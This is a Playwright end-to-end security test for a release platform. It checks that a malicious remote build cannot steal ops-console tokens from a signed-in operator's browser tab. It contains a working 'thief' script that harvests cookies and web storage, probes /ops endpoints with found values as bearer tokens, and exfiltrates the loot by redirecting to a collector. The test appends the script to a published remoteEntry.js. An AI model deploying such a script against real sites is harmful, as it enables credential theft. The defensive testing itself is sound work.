import { spawnSync } from 'node:child_process';
import { appendFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { XSRF_COOKIE } from '@gold/contracts';
import { expect, test } from '../support/test';
import { builtCopyAs } from '../support/remoteBuildCopy';
import { repoRoot, startOwnServer, type OwnServer } from '../support/serverProcess';

// A team token's holder publishes a calculator whose page, in a visitor's browser, hunts for the
// release console's token and tries /ops every way a page can; an operator signed in to the
// console then opens the site in the same tab. Nothing of ops may reach the thief's collector.
const PORT = Number(process.env.E2E_THEFT_PORT ?? 8331);
const THIEF_VERSION = '1.0.1-thief';
const bootstrapToken = process.env.OPS_TOKEN ?? 'dev-ops-token';

/** What the thief's page sends home: everything it read, and what each request to /ops got. */
interface Loot {
  href: string;
  cookie: string;
  session: Record<string, string>;
  local: Record<string, string>;
  windowName: string;
  referrer: string;
  attempts: { label: string; status?: number; type?: string; body?: string; error?: string }[];
}

/**
 * The thief, as it runs in the visitor's page (serialised into the calculator's entry): it
 * reads every store a page can, calls /ops on its own origin and on the ops listener's (with the
 * browser's credentials, and with every value it found as a bearer token), then navigates to the
 * collector with all of it, a way out that no Content-Security-Policy directive closes.
 */
function thief({ opsOrigin, collector }: { opsOrigin: string; collector: string }) {
  const w = window as unknown as { thiefRan?: boolean };
  if (w.thiefRan) return;
  w.thiefRan = true;
  const found: string[] = [];
  const read = (storage: Storage) => {
    const all: Record<string, string> = {};
    for (let i = 0; i < storage.length; i += 1) {
      const key = storage.key(i) as string;
      all[key] = storage.getItem(key) ?? '';
      found.push(all[key]);
    }
    return all;
  };
  const loot = {
    href: location.href,
    cookie: document.cookie,
    session: read(sessionStorage),
    local: read(localStorage),
    windowName: window.name,
    referrer: document.referrer,
    attempts: [] as Record<string, unknown>[],
  };
  for (const pair of document.cookie.split('; ')) found.push(pair.slice(pair.indexOf('=') + 1));
  if (window.name) found.push(window.name);
  const tokens = found.filter(Boolean).slice(0, 6);
  const attempt = async (label: string, url: string, init: RequestInit) => {
    try {
      const response = await fetch(url, init);
      const body = await response.text().catch(() => '');
      loot.attempts.push({
        label,
        status: response.status,
        type: response.type,
        body: body.slice(0, 80),
      });
    } catch (error) {
      loot.attempts.push({ label, error: String(error).slice(0, 80) });
    }
  };
  void (async () => {
    for (const path of ['/ops/registry', '/ops/tokens', '/ops/']) {
      for (const [where, origin] of [
        ['site', ''],
        ['ops', opsOrigin],
      ]) {
        const url = `${origin}${path}`;
        await attempt(`${where} ${path}`, url, { credentials: 'include' });
        await attempt(`${where} ${path} no-cors`, url, { credentials: 'include', mode: 'no-cors' });
        await attempt(`${where} POST ${path}`, url, {
          method: 'POST',
          credentials: 'include',
          body: '{}',
        });
        for (const token of tokens)
          await attempt(`${where} ${path} bearer`, url, {
            credentials: 'include',
            headers: { authorization: `Bearer ${token}` },
          });
      }
    }
    location.href = `${collector}/collect?loot=${encodeURIComponent(JSON.stringify(loot))}`;
  })();
}

/** A local server that keeps what the thief sends it. */
async function startCollector(): Promise<{ url: string; received: string[]; server: Server }> {
  const received: string[] = [];
  const server = createServer((request, response) => {
    received.push(decodeURIComponent(request.url ?? ''));
    response.end('thanks');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, received, server };
}

/** Runs the ops CLI on the ops listener as the holder of `token`; throws when it fails. */
function cliAs(server: OwnServer, token: string, ...args: string[]): string {
  const run = spawnSync(
    process.execPath,
    [join(repoRoot, 'server/dist/cli.mjs'), ...args, '--server', server.opsUrl],
    {
      cwd: repoRoot,
      encoding: 'utf8',
      env: { ...process.env, OPS_TOKEN: token, OPS_ACTOR: 'team' },
    },
  );
  if (run.status !== 0) throw new Error(`${args.join(' ')} failed: ${run.stderr}`);
  return run.stdout;
}

test.setTimeout(180_000);
let server: OwnServer | undefined;
let collector: Awaited<ReturnType<typeof startCollector>> | undefined;
let teamToken = '';

test.beforeAll(async () => {
  // Publishing the five remotes at start-up takes a busy machine more than a hook's 30 s.
  test.setTimeout(180_000);
  collector = await startCollector();
  server = await startOwnServer(PORT);
  // The calculator team's token: releases of the calculator, nothing else.
  const created = server.cli(
    'tokens',
    'create',
    '--name',
    'calculator-team',
    '--can',
    'releases',
    '--remotes',
    'calculator',
  );
  expect(created.code, created.err).toBe(0);
  teamToken = created.out.split('\n')[1]?.trim() ?? '';
  expect(teamToken).toMatch(/^gold_ops_/);

  const dist = builtCopyAs('mf-calculator', THIEF_VERSION);
  try {
    // Into the entry, whose hash the registry takes at publish (the chunks' hashes are in it).
    const settings = { opsOrigin: server.opsUrl, collector: collector.url };
    appendFileSync(
      join(dist, 'remoteEntry.js'),
      `\n;(${thief.toString()})(${JSON.stringify(settings)});\n`,
    );
    cliAs(server, teamToken, 'registry', 'publish', 'calculator', '--dist', dist);
  } finally {
    rmSync(dist, { recursive: true, force: true });
  }
  cliAs(server, teamToken, 'registry', 'canary', 'calculator', THIEF_VERSION, '--percent', '100');
});

test.afterAll(async () => {
  await server?.stop();
  await new Promise((resolve) => collector?.server.close(resolve));
});

async function signInToConsole(page: Page, origin: string) {
  await page.goto(`${origin}/ops/`);
  await page.getByLabel('Ops token').fill(bootstrapToken);
  await page.getByLabel(/Your name/).fill('e2e operator');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByRole('table', { name: /^Remotes/ })).toBeVisible();
}

test('a remote build that hunts for ops credentials and calls /ops from a visitor page gets nothing, in the same tab as a signed-in console', async ({
  browser,
}) => {
  const { opsUrl, url } = server!;
  const context = await browser.newContext();
  const page = await context.newPage();
  await signInToConsole(page, opsUrl);
  // There is something to steal in this tab: the console's token, in its own origin's storage.
  expect(await page.evaluate(() => Object.values({ ...sessionStorage }).join(' '))).toContain(
    bootstrapToken,
  );

  // The same tab goes to the site, where the thief's calculator page is the canary at 100 %.
  await page.goto(`${url}/website/Calculator`, { waitUntil: 'commit' });
  await page.waitForURL(`${collector!.url}/**`, { timeout: 60_000 });

  // Whatever reached the collector (the browser asks it for a favicon as well).
  const raw = collector!.received.join('\n');
  expect(collector!.received.filter((path) => path.startsWith('/collect'))).toHaveLength(1);
  const report = collector!.received.find((path) => path.startsWith('/collect')) as string;
  const loot = JSON.parse(report.slice(report.indexOf('loot=') + 5)) as Loot;
  // The thief ran in the visitor's page and read what a page can: the cookies of its origin.
  expect(loot.href).toBe(`${url}/website/Calculator`);
  expect(loot.cookie).toContain(`${XSRF_COOKIE}=`);
  expect(loot.attempts.length).toBeGreaterThanOrEqual(18);

  const stolen = [bootstrapToken, teamToken].filter((token) => raw.includes(token));
  console.log(`tokens stolen: ${stolen.length}`);
  expect(stolen).toEqual([]);
  for (const attempt of loot.attempts) {
    if (attempt.label.startsWith('site '))
      // On the site's port /ops is not there at all.
      expect(attempt, attempt.label).toMatchObject({ status: 404, body: 'Not found' });
    else
      // From the ops listener a visitor's page reads nothing: refused before the request is
      // made, or an opaque answer with no status and no body.
      expect(attempt.error ?? `${attempt.status} ${attempt.body}`, attempt.label).toMatch(
        /^(TypeError.*|0 )$/,
      );
  }
  await context.close();
});
